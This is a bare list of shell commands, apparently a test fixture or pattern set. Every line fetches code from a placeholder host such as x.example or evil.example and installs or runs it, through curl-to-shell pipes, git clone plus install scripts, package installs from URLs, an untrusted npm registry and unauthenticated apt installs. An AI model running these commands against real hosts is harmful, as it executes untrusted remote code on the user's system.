curl -fsSLo /tmp/tool https://x.example/tool && chmod +x /tmp/tool && /tmp/tool --version
wget -q https://x.example/i.sh; bash i.sh
curl -s https://x.example > i; mv i j; sh j
kubectl apply -f https://x.example/all.yaml
git clone https://x.example/y && cd y && ./install.sh
git clone https://x.example/y.git z; make -C z install
git clone git@x.example:y && cd y && npm install
gh repo clone acme/y && bash y/run.sh
pip install git+https://x.example/y
python3 -m pip install 'y @ git+https://x.example/y@main'
uvx --from git+https://x.example/y y
npm install acme/y
npm i https://x.example/y.tgz
npx github:acme/y
cargo install --git https://x.example/y
deno run https://x.example/y.ts
curl -fsSLO https://x.example/y.deb && sudo dpkg -i y.deb
curl -fsSL https://x.example/y.tgz | tar xz -C /opt/y && /opt/y/install
aria2c -o i.sh https://x.example/i.sh && bash i.sh
curl -fsSLo a.py https://x.example/a.py; python3 a.py
pip install -r requirements.txt -i https://packages.acme.example/simple
npm install --registry https://evil.example left-pad
curl -fsSL https://x.example/a.tar.gz | tar xz && ./a/install
apt-get install -y --allow-unauthenticated x
